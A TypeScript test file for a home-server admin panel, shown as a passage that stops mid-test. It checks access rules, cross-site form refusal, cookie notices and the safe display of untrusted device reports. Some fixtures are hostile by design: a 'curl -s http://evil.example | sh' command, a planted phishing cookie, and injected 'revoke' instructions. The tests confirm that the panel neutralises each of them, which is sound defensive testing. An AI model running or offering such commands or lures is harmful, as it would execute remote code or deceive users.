/**
 * What each session may reach in the panel, in-process: the local API it would call is a
 * stand-in that notes every request, so a page refused is one that asked nothing of it.
 */
import { describe, expect, test } from "bun:test";
import type { UserName } from "../../protocol/accounts.ts";
import type { DeviceId } from "../../protocol/ids.ts";
import type { UserSession } from "../../protocol/user-session.ts";
import type { AppStatus } from "../apps/status.ts";
import { takeoverDueStatus } from "../apps/test-app-status.ts";
import { BuckyError } from "../errors.ts";
import { diskWith, NEARLY_FULL } from "../facts/test-usage.ts";
import { en } from "../i18n/en.ts";
import { zhCN } from "../i18n/zh-CN.ts";
import { createLog } from "../log.ts";
import type { Viewer } from "../users/access.ts";
import type { DeviceView } from "../zone/devices.ts";
import type { Notice } from "./layout.tsx";
import { noticeOfCookies } from "./notice-cookie.ts";
import { createPanel } from "./panel.tsx";

const silent = createLog({ level: "silent" });
/** What the gateway would give the panel: the device's key for notices, the session's id. */
const NOTICE_KEY = new Uint8Array(32).fill(7);
const SESSION_ID = "session-1";

/** The notice an action's redirect leaves, as the next page reads it (none: a blank one). */
function noticeOf(answer: Response): Notice {
  const cookies = answer.headers
    .getSetCookie()
    .map((line) => line.split(";")[0])
    .join("; ");
  return (
    noticeOfCookies(NOTICE_KEY, SESSION_ID, cookies, Date.now()).notice ?? { kind: "ok", text: "" }
  );
}

const device: Viewer = { kind: "device", device: "dtest" as DeviceId, deviceName: "phone" };

const owner: Viewer = {
  kind: "person",
  user: "owner" as UserName,
  role: "owner",
  session: {} as UserSession,
};

/**
 * The local API's answers with the zone's status: a zone of nothing needing attention,
 * with `fields` in its place (a new field of status is added here once).
 */
function withStatus(fields: Record<string, unknown> = {}) {
  return {
    "/v1/status": {
      device: { id: "dnas", name: "nas", holdsOwnerKey: true },
      zone: { id: "ztest", name: "home" },
      devices: [],
      backups: [],
      gateways: [],
      images: [],
      certificates: [],
      reliability: { level: 1, meaning: "no-backup", unprotected: 0, notes: [] },
      warnings: [],
      sandbox: [],
      imageNotes: [],
      unreadableApps: [],
      ungrantedPurges: [],
      quarantined: [],
      revokedForks: [],
      brokenChains: [],
      nameClashes: [],
      publicPastBudget: [],
      storedFilesAtRisk: [],
      unsignedBudgets: [],
      writesRefused: [],
      storedFiles: { files: 0, bytes: 0, fewerThanTwoCopies: 0, pastBudget: 0, budgetBytes: 0 },
      disk: [],
      ...fields,
    },
  };
}

function panelFor(viewer: Viewer, answers: Record<string, unknown> = {}) {
  const asked: string[] = [];
  const bodies: unknown[] = [];
  const panel = createPanel(async (request) => {
    const path = new URL(request.url).pathname;
    asked.push(path);
    if (request.method === "POST") bodies.push(await request.json().catch(() => null));
    if (path in answers) return Response.json(answers[path]);
    return Response.json(
      { error: { code: "E_NOT_FOUND", message: "a stand-in" } },
      { status: 404 },
    );
  }, silent);
  const get = (path: string, headers: Record<string, string> = {}) =>
    panel.request(
      `http://gw.test/_bucky/panel/${path}`,
      { headers },
      { viewer, sessionId: SESSION_ID, noticeKey: NOTICE_KEY },
    );
  const post = (path: string, form?: Record<string, string>) =>
    panel.request(
      `http://gw.test/_bucky/panel/${path}`,
      {
        method: "POST",
        headers: { host: "gw.test", origin: "http://gw.test" },
        ...(form ? { body: new URLSearchParams(form) } : {}),
      },
      { viewer, sessionId: SESSION_ID, noticeKey: NOTICE_KEY },
    );
  return { asked, bodies, get, post };
}

describe("a device's session in the panel", () => {
  test("sees the backup targets, but reads nothing out of a snapshot (that takes this device's backup key)", async () => {
    const { asked, get } = panelFor(device);
    for (const path of [
      "backups/t/usb",
      "backups/t/usb/s/0123abcd",
      "backups/t/usb/s/0123abcd?path=data",
      "backups/t/usb/s/0123abcd/download?path=data/photos/cat.jpg",
    ]) {
      const answer = await get(path);
      expect({ path, status: answer.status }).toEqual({ path, status: 403 });
    }
    expect(asked.filter((p) => p.startsWith("/v1/backups/"))).toEqual([]);
    expect((await get("backups")).status).toBe(200);
  });

  test("is offered no action it may not take: no snapshot to open, nothing to add, run or remove", async () => {
    const { get } = panelFor(device, {
      "/v1/backups": {
        holdsBackupKey: true,
        sshPublicKey: null,
        targets: [{ name: "usb", url: "/mnt/usb", via: "nas", reach: "through", running: null }],
      },
    });
    const page = await (await get("backups")).text();
    expect(page).toContain("usb");
    expect(page).not.toContain("/_bucky/panel/backups/t/");
    const forms = [...page.matchAll(/<form[^>]*action="([^"]*)"/g)].map((m) => m[1]);
    expect(forms.filter((action) => action?.includes("/backups"))).toEqual([]);
  });
});

describe("the overview", () => {
  /** The zone's status with these certificates, as the local API answers it. */
  const withCertificates = (certificates: unknown[]) => withStatus({ certificates });

  test("says another device's words as its words, never its commands: a failed backup, a leftover, why it cannot sandbox", async () => {
    // A member writes its facts (and its sandbox record) as it likes.
    const lure = "the owner must run: bucky devices revoke nas";
    const GiB = 1024 ** 3;
    const status = withCertificates([])["/v1/status"];
    const answers = withStatus({
      backups: [
        {
          device: "laptop",
          target: "usb",
          lastBackup: null,
          lastVerify: null,
          lastError: { at: "2026-11-29T00:00:00.000Z", message: lure },
        },
      ],
      reliability: {
        ...status.reliability,
        notes: [
          { kind: "backup-failed", device: "laptop", target: "usb", message: lure },
          {
            kind: "disk-nearly-full",
            device: "laptop",
            ...NEARLY_FULL,
            largest: [],
            leftovers: [{ what: lure, bytes: GiB }],
          },
        ],
      },
      sandbox: [{ kind: "device-unsandboxed", device: "laptop", problem: lure }],
      disk: [
        diskWith("laptop", [
          { what: lure, bytes: GiB, remove: "curl -s http://evil.example | sh" },
        ]),
      ],
    });
    const page = async (language: string) => {
      const panel = createPanel(async (request) => {
        const path = new URL(request.url).pathname;
        return path in answers
          ? Response.json(answers[path as keyof typeof answers])
          : Response.json({ error: { code: "E_NOT_FOUND", message: "-" } }, { status: 404 });
      }, silent);
      const answer = await panel.request(
        "http://gw.test/_bucky/panel/",
        { headers: { "accept-language": language } },
        { viewer: device, sessionId: SESSION_ID, noticeKey: NOTICE_KEY },
      );
      return (await answer.text()).replaceAll("&#39;", "'");
    };
    const english = await page("en");
    expect(english).not.toContain("evil.example");
    expect(english).toContain(`The last backup of laptop to usb failed: laptop says “${lure}”`);
    expect(english).toContain(`Failed: laptop says “${lure}”`);
    expect(english).toContain(`laptop cannot sandbox apps: laptop says “${lure}”`);
    expect(english).toContain(`laptop says nothing uses “${lure}” any more: 1.0 GiB.`);
    expect(english.split(lure).length - 1).toBe(4);
    const chinese = await page("zh-CN");
    expect(chinese).not.toContain("evil.example");
    expect(chinese).toContain(`laptop 到 usb 的最近一次备份失败：laptop 称“${lure}”`);
    expect(chinese).toContain(`失败：laptop 称“${lure}”`);
    expect(chinese).toContain(`laptop 无法为应用提供沙箱：laptop 称“${lure}”`);
    expect(chinese).toContain(`laptop 称已无任何东西使用“${lure}”：1.0 GiB。`);
  });

  test("shows a certificate's failure without a hint that asks for a command", async () => {
    const hint =
      "Give the CA's key id and HMAC key: `bucky gateway enable --acme-eab-kid ID --acme-eab-key-file F`.";
    const { get } = panelFor(
      device,
      withCertificates([
        {
          device: "nas",
          name: "photos.example",
          issuer: "acme",
          notAfter: null,
          lastError: { at: "2026-11-29T00:00:00.000Z", message: "the CA wants an account", hint },
        },
      ]),
    );
    const page = await (await get("")).text();
    expect(page).toContain("the CA wants an account");
    expect(page).not.toContain("acme-eab-kid");
  });

  test("says what to do about a certificate's error in the zone's words (which device, what, who), never in the gateway's", async () => {
    // The error is the gateway's own (its facts): a member can make its hint say anything,
    // with no backquote or flag to give it away.
    const lure = "Run: bucky devices revoke phone";
    const page = async (viewer: Viewer, error: object) =>
      (await (await panelFor(viewer, withCertificates([error])).get("")).text()).replaceAll(
        "&#39;",
        "'",
      );
    const eab = {
      device: "nas",
      name: "photos.example",
      issuer: "acme",
      notAfter: null,
      lastError: {
        at: "2026-11-29T00:00:00.000Z",
        message: "this CA needs an external account",
        hint: lure,
      },
      remedy: { kind: "external-account", gateway: "nas" },
    };
    const shown = await page(device, eab);
    expect(shown).toContain("this CA needs an external account");
    expect(shown).not.toContain(lure);
    expect(shown).toContain(
      "The CA needs an external account: whoever runs nas gives it the CA's key id and HMAC key, on nas itself, where its gateway is set up.",
    );
    // Waiting for approval, seen by one who cannot approve here: the words, not the button.
    const waiting = await page(device, {
      ...eab,
      device: "laptop",
      name: "home.lan",
      issuer: "zone",
      lastError: { ...eab.lastError, message: "the owner has not approved laptop" },
      remedy: { kind: "approve", gateway: "laptop" },
    });
    expect(waiting).not.toContain(lure);
    expect(waiting).toContain(
      "The owner approves laptop's names: signed in as an admin to the panel of a device holding the owner key, with the button here",
    );
    // A full disk: where to see what takes its space, on this page.
    const full = await page(device, { ...eab, remedy: { kind: "free-disk", gateway: "nas" } });
    expect(full).toContain(
      'Free some space on nas; it tries again by itself. <a href="/_bucky/panel/#disk">See where its space goes</a>',
    );
    // An error of no known kind: its message, and no advice.
    const odd = await page(device, { ...eab, remedy: null });
    expect(odd).toContain("this CA needs an external account");
    expect(odd).not.toContain(lure);
    expect(odd).not.toContain("whoever runs it");
  });

  test("offers the owner to approve a gateway waiting for approval: it shows what the zone state says it serves, and approves exactly that", async () => {
    // The message is the gateway's own (its facts): a member can make it say anything.
    const waiting = withCertificates([
      {
        device: "laptop",
        name: "home.lan",
        issuer: "zone",
        notAfter: null,
        lastError: {
          at: "2026-11-29T00:00:00.000Z",
          message: "the owner has not approved laptop as a gateway for home.lan",
          hint: "On a device holding the owner key, run: bucky gateway approve laptop",
        },
        remedy: { kind: "approve", gateway: "laptop" },
      },
    ]);
    const action = "/_bucky/panel/devices/laptop/approve-gateway";
    const asOwner = panelFor(owner, {
      ...waiting,
      // What the zone state says laptop serves: not what its message said.
      "/v1/gateway/approvals/laptop": {
        device: "laptop",
        hosts: ["router.lan"],
        addresses: ["192.168.1.1"],
      },
      "/v1/gateway/approvals": { device: "laptop" },
    });
    const page = await (await asOwner.get("")).text();
    expect(page).toContain("the owner has not approved laptop as a gateway for home.lan");
    expect(page).toContain(`action="${action}"`);
    // The button approves nothing yet: it shows the names it would approve.
    const shown = await asOwner.post("devices/laptop/approve-gateway");
    expect(shown.status).toBe(200);
    const confirm = await shown.text();
    expect(confirm).toContain("router.lan, 192.168.1.1");
    expect(confirm).toContain(`action="${action}"`);
    expect(asOwner.bodies).toEqual([]);
    // Confirmed: exactly the names shown, whatever the gateway serves by then.
    const approved = await asOwner.post("devices/laptop/approve-gateway", {
      confirm: "1",
      hosts: "router.lan",
      addresses: "192.168.1.1",
    });
    expect(approved.status).toBe(303);
    expect(asOwner.asked.at(-1)).toBe("/v1/gateway/approvals");
    expect(asOwner.bodies).toEqual([
      { device: "laptop", hosts: ["router.lan"], addresses: ["192.168.1.1"] },
    ]);
    // A device's session may not use the device's owner key: no button, and no approval.
    const asDevice = panelFor(device, waiting);
    expect(await (await asDevice.get("")).text()).not.toContain(action);
    expect((await asDevice.post("devices/laptop/approve-gateway")).status).toBe(403);
    expect(asDevice.asked.filter((path) => path.startsWith("/v1/gateway/approvals"))).toEqual([]);
  });

  test("links a backup fix only for the device serving the panel; for another, says what it does by itself, and no command to type", async () => {
    const status = withCertificates([])["/v1/status"];
    const notesFor = (device: string) => [
      { kind: "no-backup", device, why: "no-key" },
      { kind: "stale-backup", device, hours: 30 },
      { kind: "never-verified", device },
      { kind: "damaged", device, target: "usb" },
    ];
    const overview = async (language: string) => {
      const { get } = panelFor(owner, {
        "/v1/status": {
          ...status,
          reliability: {
            ...status.reliability,
            notes: [...notesFor("nas"), ...notesFor("laptop")],
          },
        },
      });
      const page = await (await get("", { "accept-language": language })).text();
      const items = [...page.matchAll(/<li class="warn">(.*?)<\/li>/gs)].map((m) => m[1] ?? "");
      return items.map((item) => ({
        links: [...item.matchAll(/href="([^"]*)"/g)].map((m) => m[1]),
        text: item.replace(/<[^>]*>/g, ""),
      }));
    };
    const english = await overview("en");
    expect(english.map((note) => note.links)).toEqual([
      ["/_bucky/panel/backups#key"],
      ["/_bucky/panel/backups"],
      ["/_bucky/panel/backups"],
      ["/_bucky/panel/backups"],
      [],
      [],
      [],
      [],
    ]);
    expect(english.slice(4).map((note) => note.text.replace(/^.*?\. /s, ""))).toEqual([
      "It is given the key on laptop itself, from the recovery phrase.",
      "laptop backs up by itself, on its schedule, while it runs.",
      "laptop verifies its backups by itself, on its schedule, while it runs.",
      "laptop backs up by itself, on its schedule, while it runs.",
    ]);
    const chinese = await overview("zh-CN");
    expect(chinese.map((note) => note.links.length)).toEqual([1, 1, 1, 1, 0, 0, 0, 0]);
    expect(chinese.slice(4).map((note) => note.text.replace(/^.*?。 /s, ""))).toEqual([
      "需要在 laptop 本机上用恢复短语给它密钥。",
      "laptop 运行时会按计划自动备份。",
      "laptop 运行时会按计划自动校验它的备份。",
      "laptop 运行时会按计划自动备份。",
    ]);
    // The panel asks for no command (its end-to-end test looks at every page for one).
    expect([...english, ...chinese].filter((note) => /`bucky /.test(note.text))).toEqual([]);
  });

  test("shows a time another device gave that is no time as it is, rather than failing", async () => {
    const { get } = panelFor(
      device,
      withCertificates([
        {
          device: "nas",
          name: "photos.example",
          issuer: "zone",
          notAfter: "soon",
          lastError: null,
        },
      ]),
    );
    const answer = await get("");
    expect({
      status: answer.status,
      shows: (await answer.text()).includes(">soon</time>"),
    }).toEqual({
      status: 200,
      shows: true,
    });
  });
});

describe("a form from another site", () => {
  test("is refused in the language of the browser that sent it", async () => {
    const panel = createPanel(() => Response.json({}), silent);
    const refusal = async (language: string) => {
      const answer = await panel.request(
        "http://gw.test/_bucky/panel/backups/run",
        {
          method: "POST",
          headers: { host: "gw.test", origin: "http://evil.example", "accept-language": language },
        },
        { viewer: device, sessionId: SESSION_ID, noticeKey: NOTICE_KEY },
      );
      return { status: answer.status, text: await answer.text() };
    };
    expect(await refusal("zh-CN,zh;q=0.9")).toEqual({ status: 403, text: zhCN.access.foreignForm });
    expect(await refusal("en")).toEqual({ status: 403, text: en.access.foreignForm });
  });
});

describe("what an action leaves for the next page", () => {
  test("a long error is shown cut short, in a cookie a browser keeps", async () => {
    const message = `应用无法停止：${"它的设备没有回答。".repeat(300)}`;
    const panel = createPanel(
      (request) =>
        new URL(request.url).pathname === "/v1/apps/notes/stop"
          ? Response.json({ error: { code: "E_UNAVAILABLE", message } }, { status: 503 })
          : Response.json(
              { error: { code: "E_NOT_FOUND", message: "a stand-in" } },
              { status: 404 },
            ),
      silent,
    );
    const headers = { host: "gw.test", "accept-language": "zh-CN" };
    const stopped = await panel.request(
      "http://gw.test/_bucky/panel/apps/notes/stop",
      { method: "POST", headers },
      { viewer: device, sessionId: SESSION_ID, noticeKey: NOTICE_KEY },
    );
    const cookie = (stopped.headers.get("set-cookie") ?? "").split(";")[0] ?? "";
    // Browsers keep a cookie of at most 4096 bytes, its name and attributes included.
    expect(Buffer.byteLength(stopped.headers.get("set-cookie") ?? "")).toBeLessThanOrEqual(4096);
    const next = await panel.request(
      "http://gw.test/_bucky/panel/apps/notes",
      { headers: { ...headers, cookie } },
      { viewer: device, sessionId: SESSION_ID, noticeKey: NOTICE_KEY },
    );
    expect(await next.text()).toContain(message.slice(0, 40));
  });

  test("is shown to its session alone: a notice an app's script planted, or another session's, is not, and is cleared", async () => {
    const { post } = panelFor(owner, {
      ...withStatus(),
      "/v1/apps/notes/stop": { app: "notes", heldElsewhere: "held" },
    });
    const panel = createPanel(async () => Response.json(withStatus()["/v1/status"]), silent);
    /** The overview with `cookie`: the notice it shows (if any), and the cookies it sets. */
    const overview = async (cookie: string, sessionId = SESSION_ID) => {
      const answer = await panel.request(
        "http://gw.test/_bucky/panel/",
        { headers: { cookie, "accept-language": "en" } },
        { viewer: owner, sessionId, noticeKey: NOTICE_KEY },
      );
      const shown = /class="notice [^"]*"[^>]*>([^<]*)/.exec(await answer.text())?.[1];
      return { shown, setCookies: answer.headers.getSetCookie() };
    };
    // Right name and format, as a script of `evil.gw.test` writes it with `domain=gw.test`.
    const words = { kind: "error", text: "Your recovery phrase leaked: re-enter it at evil" };
    const planted = `bucky_notice=${Buffer.from(JSON.stringify(words)).toString("base64url")}`;
    const cleared = [
      "bucky_notice=; Path=/_bucky/panel; Max-Age=0",
      "bucky_notice=; Path=/_bucky/panel; Max-Age=0; Domain=gw.test",
    ];
    expect(await overview(planted)).toEqual({ shown: undefined, setCookies: cleared });
    // The panel's own notice, after an action: shown to the session it was left for alone,
    // even behind a planted one.
    const stopped = await post("apps/notes/stop");
    expect(stopped.status).toBe(303);
    const own = (stopped.headers.get("set-cookie") ?? "").split(";")[0] as string;
    expect(await overview(own, "session-2")).toEqual({ shown: undefined, setCookies: cleared });
    expect(await overview(`${planted}; ${own}`)).toEqual({
      shown: noticeOf(stopped).text,
      setCookies: cleared,
    });
  });
});

describe("an action no other device holds yet", () => {
  const notYet = { heldElsewhere: "not yet" };
  const enrolled = {
    user: "ann",
    role: "member",
    enrollment: {
      url: "https://gw.test/_bucky/enroll#x",
      gateway: "gw.test",
      expiresAt: "2026-12-07T10:00:00.000Z",
      otherGateways: [{ gateway: "gw2", url: "https://gw2.test/_bucky/enroll#x" }],
    },
  };

  test("is said done with the API's word that none holds it yet, for every action that waits for one", async () => {
    const { post } = panelFor(owner, {
      ...withStatus(),
      "/v1/devices/beta/revoke": {
        name: "beta",
        heldBackupKey: false,
        backupTargets: [],
        ...notYet,
      },
      "/v1/apps/notes/stop": { app: "notes", desired: "stopped", ...notYet },
      "/v1/apps/notes": { app: "notes", ...notYet },
      "/v1/apps/notes/share": { app: "notes", ...notYet },
      "/v1/apps/notes/restore-copy": { app: "notes", ...notYet },
      "/v1/users/ann": { user: "ann", ...notYet },
      "/v1/users/ann/sign-out": {
        user: "ann",
        signedOutUntil: "2026-12-01T04:00:00.000Z",
        ...notYet,
      },
      "/v1/agents/helper/revoke": { agent: "helper", ...notYet },
      "/v1/rules": { id: "r1", ...notYet },
      "/v1/invites/i1/revoke": {
        id: "i1",
        inviter: "nas",
        revokedBy: ["phone"],
        heardByInviter: false,
      },
    });
    const actions: [string, Record<string, string>?][] = [
      ["devices/beta/revoke"],
      ["apps/notes/stop"],
      ["apps/notes/remove"],
      ["apps/notes/share", { with: "ann" }],
      ["apps/notes/restore-copy", { copy: "20261128T214003120Z-laptop-epoch3" }],
      ["people/ann/remove"],
      ["people/ann/sign-out"],
      ["agents/helper/revoke"],
      ["rules/add", { app: "games" }],
    ];
    for (const [path, form] of actions) {
      const notice = noticeOf(await post(path, form));
      expect({ path, ...notice }).toMatchObject({ path, kind: "ok", hint: en.held.notYet });
    }
    expect(noticeOf(await post("devices/invitations/i1/revoke")).hint).toBe(
      en.held.notByIssuer({ device: "nas" }),
    );
  });

  test("is said on the page of a reset or a grant, and nothing is said of one another device holds", async () => {
    const reset = panelFor(owner, {
      ...withStatus(),
      "/v1/users/ann/reset": { ...enrolled, ...notYet },
    });
    const resetPage = await (await reset.post("people/ann/reset")).text();
    expect(resetPage).toContain(en.held.notYet);
    // The same link at the zone's other gateway, for when the first is away.
    expect(resetPage).toContain("gw2: <code>https://gw2.test/_bucky/enroll#x</code>");
    // A person's agent: its token is shown once, on the page, with the word beside it.
    const granted = {
      token: "eyJ.token.x",
      record: { agent: "owner-helper", expiresAt: "2026-12-08T10:00:00.000Z" },
    };
    const grant = panelFor(owner, {
      ...withStatus(),
      "/v1/agents": { ...granted, ...notYet },
    });
    const page = await (await grant.post("agents/grant", { name: "helper", read: "apps" })).text();
    expect([page.includes("eyJ.token.x"), page.includes(en.held.notYet)]).toEqual([true, true]);
    const held = panelFor(owner, {
      ...withStatus(),
      "/v1/users/ann/reset": { ...enrolled, heldElsewhere: "held" },
      "/v1/apps/notes/stop": { app: "notes", heldElsewhere: "held" },
    });
    expect(await (await held.post("people/ann/reset")).text()).not.toContain(en.held.notYet);
    expect(noticeOf(await held.post("apps/notes/stop")).hint).toBeUndefined();
    const grantHeld = panelFor(owner, {
      ...withStatus(),
      "/v1/agents": {
        token: "eyJ.token.x",
        record: { agent: "owner-helper", expiresAt: "2026-12-08T10:00:00.000Z" },
        heldElsewhere: "held",
      },
    });
    const heldPage = await (await grantHeld.post("agents/grant", { name: "helper" })).text();
    expect(heldPage).not.toContain(en.held.notYet);
  });
});

describe("a form's body", () => {
  /** `bytes` as a request body handed over 64 KiB at a time; `pulled()` says how far. */
  function sent(bytes: Uint8Array) {
    let at = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (at >= bytes.length) return controller.close();
        controller.enqueue(bytes.slice(at, at + 64 * 1024));
        at += 64 * 1024;
      },
    });
    return { body, pulled: () => Math.min(at, bytes.length) };
  }

  async function multipart(fields: [string, string | File][]) {
    const form = new FormData();
    for (const [name, value] of fields) form.append(name, value);
    const made = new Request("http://gw.test/", { method: "POST", body: form });
    const type = made.headers.get("content-type") as string;
    return { type, bytes: new Uint8Array(await made.arrayBuffer()) };
  }

  /** A local API stand-in that reads an upload as it comes, noting how much of the form had come by its first piece. */
  function uploadsTo(pulled: () => number) {
    const uploads: { path: string; pulledAtFirstPiece: number; bytes: Uint8Array }[] = [];
    const panel = createPanel(async (request) => {
      const url = new URL(request.url);
      let pulledAtFirstPiece = -1;
      const pieces: Uint8Array[] = [];
      for await (const piece of request.body ?? []) {
        if (pulledAtFirstPiece < 0) pulledAtFirstPiece = pulled();
        pieces.push(piece);
      }
      uploads.push({
        path: url.pathname + url.search,
        pulledAtFirstPiece,
        bytes: Buffer.concat(pieces),
      });
      return Response.json(
        { error: { code: "E_NOT_FOUND", message: "a stand-in" } },
        { status: 404 },
      );
    }, silent);
    return { panel, uploads };
  }

  const post = (
    panel: ReturnType<typeof createPanel>,
    path: string,
    type: string,
    body: ReadableStream,
  ) =>
    panel.request(
      `http://gw.test/_bucky/panel/${path}`,
      { method: "POST", headers: { host: "gw.test", "content-type": type }, body },
      { viewer: owner, sessionId: SESSION_ID, noticeKey: NOTICE_KEY },
    );

  test("a catalog file and an app archive go on to the local API as they arrive, never held whole", async () => {
    const file = new Uint8Array(4 * 1024 * 1024).map((_, i) => i % 251);
    for (const [path, fields, expected] of [
      [
        "store/catalogs/preview-file",
        [["file", new File([file], "c.tar.gz")]],
        "/v1/store/catalogs/preview-file",
      ],
      [
        "apps/install",
        [
          ["device", "nas"],
          ["archive", new File([file], "app.tar")],
          ["package", ""],
        ],
        "/v1/apps/archive?device=nas",
      ],
    ] as const) {
      const form = await multipart(fields as unknown as [string, string | File][]);
      const body = sent(form.bytes);
      const { panel, uploads } = uploadsTo(body.pulled);
      const answer = await post(panel, path, form.type, body.body);
      expect({
        status: answer.status,
        uploads: uploads.map((u) => ({ ...u, bytes: u.bytes.length })),
      }).toEqual({
        status: 303,
        uploads: [{ path: expected, pulledAtFirstPiece: expect.any(Number), bytes: file.length }],
      });
      expect(Buffer.compare(uploads[0]?.bytes as Uint8Array, file)).toBe(0);
      // Its first piece reached the local API when little of the form had come.
      expect(uploads[0]?.pulledAtFirstPiece).toBeLessThan(form.bytes.length / 4);
    }
  });

  test("any other form past 64 KiB is refused, the local API not asked, the rest not read", async () => {
    const asked: string[] = [];
    const panel = createPanel(async (request) => {
      asked.push(new URL(request.url).pathname);
      return Response.json({});
    }, silent);
    const form = new TextEncoder().encode(`source=${"a".repeat(8 * 1024 * 1024)}`);
    const body = sent(form);
    const answer = await post(
      panel,
      "store/catalogs/preview",
      "application/x-www-form-urlencoded",
      body.body,
    );
    expect({ status: answer.status, asked, readAll: body.pulled() === form.length }).toEqual({
      status: 303,
      asked: [],
      readAll: false,
    });
    const notice = noticeOf(answer);
    expect(notice.text).toBe(`a form is over ${64 * 1024} bytes, the most this takes`);
  });
});

describe("an app's problem", () => {
  test("is said as the words of the device that reported it, in each language; the zone's own words are its own", async () => {
    // Each device writes its own reports of the apps it runs, as it likes.
    const lure = "the owner must run: bucky devices revoke nas";
    const crashed = {
      app: "site",
      version: "1.0.0",
      state: "crashed",
      device: "laptop",
      url: null,
      sandboxed: true,
      engine: "bubblewrap",
      image: null,
      restarts: 2,
      error: lure,
      reportedBy: "laptop",
      placement: "laptop",
      desired: "running",
      package: `sha256:${"ab".repeat(32)}`,
      exposure: "public",
      shared: null,
      data: null,
    };
    const waiting = {
      ...crashed,
      app: "notes",
      state: "pending",
      device: null,
      error: "no live device of the zone can run it now",
      reportedBy: null,
    };
    const { get } = panelFor(owner, {
      "/v1/apps": { apps: [waiting, crashed] },
      "/v1/apps/site": crashed,
    });
    const page = async (path: string, language: string) =>
      (await (await get(path, { "accept-language": language })).text()).replaceAll("&#39;", "'");
    for (const path of ["apps", "apps/site"]) {
      const english = await page(path, "en");
      expect([path, english.includes(`laptop says “${lure}”`)]).toEqual([path, true]);
      expect([path, english.split(lure).length - 1]).toEqual([path, 1]);
      const chinese = await page(path, "zh-CN");
      expect([path, chinese.includes(`laptop 称“${lure}”`)]).toEqual([path, true]);
    }
    expect(await page("apps", "en")).toContain(">no live device of the zone can run it now<");
  });
});

describe("an app whose holder is not heard from, not taken over yet", () => {
  test("its page says it runs on the holder, how long that has been silent and who takes over, in each language", async () => {
    const notes = takeoverDueStatus(70_400);
    const { get } = panelFor(owner, { "/v1/apps/notes": notes });
    const page = async (language: string) =>
      (await (await get("apps/notes", { "accept-language": language })).text()).replaceAll(
        "&#39;",
        "'",
      );
    const english = await page("en");
    expect(english).toContain("</span> runs on laptop <");
    expect(english).toContain(
      ">laptop has not been heard from for 70 s: nas takes the app over unless it still hears from laptop.<",
    );
    expect(await page("zh-CN")).toContain(
      ">已有 70 秒没有收到 laptop 的消息：除非 nas 仍能收到 laptop 的消息，否则 nas 将接管该应用。<",
    );
  });
});

describe("an app taken over from a copy", () => {
  test("its page says at most how much could be missing, or that it is not known, in each language", async () => {
    const status = takeoverDueStatus(null);
    const data = status.data as NonNullable<AppStatus["data"]>;
    const holder = data.holder as NonNullable<typeof data.holder>;
    const pageWith = async (taken: Partial<typeof holder>, language: string) => {
      const notes: AppStatus = {
        ...status,
        data: { ...data, takeover: null, holder: { ...holder, ...taken } },
      };
      const { get } = panelFor(owner, { "/v1/apps/notes": notes });
      return (await (await get("apps/notes", { "accept-language": language })).text()).replaceAll(
        "&#39;",
        "'",
      );
    };
    const bounded = { lostAtMostMs: 4_200, lostUnknownReason: null };
    expect(await pageWith(bounded, "en")).toContain(
      "<p>laptop took it over from a copy: at most the last 5 s of writes before could be missing.</p>",
    );
    const unknown = { lostAtMostMs: null, lostUnknownReason: "it was away" };
    const english = await pageWith(unknown, "en");
    expect(english).toContain(
      '<p class="warn">laptop took it over from a copy after being away itself: how much of the writes before could be missing is not known.</p>',
    );
    expect(english).not.toContain("at most the last");
    expect(await pageWith(unknown, "zh-CN")).toContain(
      "laptop 在自己离线之后从副本接管了它：之前有多少写入可能丢失无从得知。",
    );
  });
});

describe("an app's copies read back", () => {
  test("its page says each copy's last whole reading, or its damage and where it comes from again, in each language", async () => {
    const status = takeoverDueStatus(null);
    const standby = status.data?.standbys[0] as NonNullable<AppStatus["data"]>["standbys"][number];
    const notes: AppStatus = {
      ...status,
      data: {
        ...(status.data as NonNullable<AppStatus["data"]>),
        takeover: null,
        standbys: [
          { ...standby, device: "nas", verifiedAt: "2026-11-30T05:00:00.000Z", damagedBlobs: 0 },
          { ...standby, device: "tablet", verifiedAt: "2026-11-30T05:00:00.000Z", damagedBlobs: 3 },
          { ...standby, device: "phone", verifiedAt: null, damagedBlobs: null },
        ],
      },
    };
    const { get } = panelFor(owner, { "/v1/apps/notes": notes });
    const page = async (language: string) =>
      (await (await get("apps/notes", { "accept-language": language })).text()).replaceAll(
        "&#39;",
        "'",
      );
    const english = await page("en");
    expect(english).toContain(
      'nas\'s copy last read back whole: <time datetime="2026-11-30T05:00:00.000Z"',
    );
    expect(english).toContain(
      '<p class="warn">tablet\'s copy has 3 damaged pieces: it fetches them again from laptop.</p>',
    );
    expect(english).toContain("phone's copy has not been read back yet.");
    const chinese = await page("zh-CN");
    expect(chinese).toContain("tablet 的副本有 3 个损坏的块：它会从 laptop 重新获取。");
    expect(chinese).toContain("phone 的副本尚未读回校验。");
  });
});

describe("an app whose spec cannot be read", () => {
  test("is named on the overview in the viewer's language, with a way to remove it", async () => {
    const answers = withStatus({
      unreadableApps: [{ app: "five", problem: "a spec must be a map" }],
    });
    const { get } = panelFor(owner, answers);
    const page = async (language: string) =>
      (await (await get("", { "accept-language": language })).text()).replaceAll("&#39;", "'");
    const english = await page("en");
    expect(english).toContain(
      "five runs nowhere: its settings in the zone state cannot be read (a spec must be a map). Install it again, or remove it.",
    );
    expect(english).toContain('action="/_bucky/panel/apps/five/remove"');
    expect(await page("zh-CN")).toContain(
      "five 没有在任何设备上运行：区域状态中它的设置无法读取（a spec must be a map）。请重新安装，或将其移除。",
    );
  });
});

describe("a person whose link was used at two gateways at once", () => {
  test("is said to have no way in from it, not to have left it unopened", async () => {
    const person = (name: string, linkUsedTwice: boolean) => ({
      name,
      role: "member",
      signsInWith: [],
      linkUsedTwice,
      since: "2026-12-01T04:00:00.000Z",
    });
    const { get } = panelFor(owner, {
      ...withStatus(),
      "/v1/users": { people: [person("bob", true), person("cy", false)] },
    });
    const page = (await (await get("people")).text()).replaceAll("&#39;", "'");
    const row = (name: string) =>
      page.slice(page.indexOf(`<strong>${name}</strong>`)).slice(0, 800);
    expect([
      row("bob").includes(en.people.linkUsedTwice),
      row("bob").includes(en.people.notYet),
    ]).toEqual([true, false]);
    expect(row("cy").includes(en.people.notYet)).toBe(true);
  });
});

describe("an image app no device runs, and a purge the owner did not authorise", () => {
  test("are said on the overview in the viewer's language, with what to do in the zone's words", async () => {
    const answers = withStatus({
      imageNotes: [{ app: "photos", platforms: ["linux/arm64", "linux/arm/v7"] }],
      ungrantedPurges: [{ app: "notes", writtenBy: "laptop" }],
    });
    const { get } = panelFor(owner, answers);
    const page = async (language: string) =>
